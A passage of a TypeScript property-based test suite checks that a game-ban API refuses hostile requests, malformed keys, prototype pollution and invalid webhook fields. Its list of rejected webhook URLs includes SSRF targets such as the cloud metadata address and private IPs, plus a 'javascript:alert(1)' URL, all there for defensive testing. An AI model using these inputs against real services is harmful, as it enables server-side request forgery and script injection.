  getCase('a well-formed unknown key', '/v1/policy', is(401), { key: `bsk_${KEY_43}` }),
  getCase('a key one character short', '/v1/policy', is(401), { key: `bsk_${KEY_43.slice(1)}` }),
  getCase('a huge key', '/v1/policy', is(401), { key: `bsk_${'A'.repeat(8_000)}` }),
  createCase('no Authorization header', ban({}), is(401), { key: undefined }),
];

describe('hostile requests', () => {
  it.each(corpus)('refuses %s', async (_, method, path, options, expected) => {
    await refused(method, path, options, expected);
  });

  it('leaves Object.prototype untouched', () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('device_id');
    expect(Object.prototype).not.toHaveProperty('enforce_game');
  });

  it('still serves good requests and stored nothing', expectStillServing);

  it('still records a good ban after all of it', async () => {
    const res = await api.request('POST', '/v1/bans', { key, game: GAME, body: validBan });
    expect(res.status).toBe(201);
    baselineItems = (await api.items()).length;
  });
});

describe('events and webhooks', () => {
  const url = 'http://127.0.0.1:9/hook';
  const badUrl = fc.oneof(
    fc.constantFrom(
      '',
      'ftp://example.com/h',
      'http://example.com/h',
      'https://user:pw@example.com/h',
      'https://10.1.2.3/h',
      'https://169.254.169.254/latest/meta-data',
      'http://[::1]:8080/h#frag',
      'http://192.168.0.1/h',
      'https://[fe80::1]/h',
      'javascript:alert(1)',
      `https://example.com/${'a'.repeat(2050)}`,
    ),
    fc.string({ maxLength: 30 }).filter((text) => !/^https?:\/\//.test(text)),
    fc.jsonValue({ maxDepth: 1 }).filter((value) => typeof value !== 'string'),
  );
  const badEvents = fc.oneof(
    fc.constant([]),
    fc.array(
      fc
        .string({ maxLength: 20 })
        .filter((s) => !['ban.created', 'ban.revoked', 'ban.erased', 'policy.updated'].includes(s)),
      { minLength: 1, maxLength: 3 },
    ),
    fc.jsonValue({ maxDepth: 0 }).filter((value) => value !== undefined),
  );
  const badGames = fc.oneof(
    fc.constant([]),
    fc.array(
      fc.string({ maxLength: 70 }).filter((s) => !GAME_ID.test(s)),
      { minLength: 1, maxLength: 3 },
    ),
    fc.jsonValue({ maxDepth: 0 }).filter((value) => value !== undefined),
  );
  const webhookWithOneBadField = fc.oneof(
    badUrl.map((value) => ({ field: 'url', body: { url: value } })),
    badEvents.map((value) => ({ field: 'events', body: { url, events: value } })),
    badGames.map((value) => ({ field: 'games', body: { url, games: value } })),
    fc
      .string({ minLength: 1, maxLength: 12 })
      .filter((name) => !['url', 'events', 'games'].includes(name) && !name.includes('.'))
      .map((name) => ({ field: name, body: { url, [name]: 1 } })),
  );

  test.prop([webhookWithOneBadField], { numRuns: 150 })(
    'refuses a webhook with one bad, missing or unknown field, naming it, before anything is read or stored',
    async ({ field, body }) => {
      const res = await refused('POST', '/v1/webhooks', { body });
      expectRefusal(res, { status: 400 });
      // An item of a list is named by its index: `games.0`.
      const fields = (res.body.error.details ?? []).map((d: { field: string }) =>
        d.field.replace(/\.\d+$/, ''),
      );
      expect(fields).toContain(field);
    },
  );

  test.prop(
    [
      fc.oneof(
        fc
          .string({ maxLength: 8 })
          .filter((s) => !DIGITS.test(s) || Number(s) < 1 || Number(s) > 500)
          .map((v) => ({ limit: v })),
        fc.integer({ min: 501, max: 10 ** 9 }).map((v) => ({ limit: String(v) })),
        fc
          .string({ minLength: 1, maxLength: 30 })
          .filter((s) => !/^[A-Za-z0-9_-]{1,200}$/.test(s))
          .map((v) => ({ cursor: v })),
        fc.constantFrom({ cursor: 'Zm9v' }, { cursor: 'ZjEueHh4eHh4eHh4eHh4eC4xLjEuMQ' }, { since: 'x' }),
      ),
    ],
    { numRuns: 120 },
  )('refuses a feed query with a bad limit, cursor or parameter, naming it', async (query) => {
    const res = await refused('GET', `/v1/events?${new URLSearchParams(query as Record<string, string>)}`, {
      game: GAME,
    });
    // A cursor with the right characters that is none of ours is refused by the domain before any read.
    expectRefusal(res, { status: 400, field: Object.keys(query)[0] as string });
  });

  test.prop(
    [
      fc
        .string({ minLength: 1, maxLength: 40 })
        .filter(
          (s) =>
            !/^wh_[A-Za-z0-9_-]{16}$/.test(s) &&
            !s.includes('/') &&
            !s.includes('?') &&
            !s.includes('#') &&
            !s.includes('%') &&
            s !== '.' &&
            s !== '..',
        ),
    ],
    {
      numRuns: 60,
    },
  )('refuses a malformed webhook id on delete and on its deliveries', async (id) => {
    const path = `/v1/webhooks/${encodeURIComponent(id)}`;
    expectRefusal(await refused('DELETE', path, {}), { status: 400, field: 'webhook_id' });
    expectRefusal(await refused('GET', `${path}/deliveries`, {}), { status: 400, field: 'webhook_id' });
  });
});
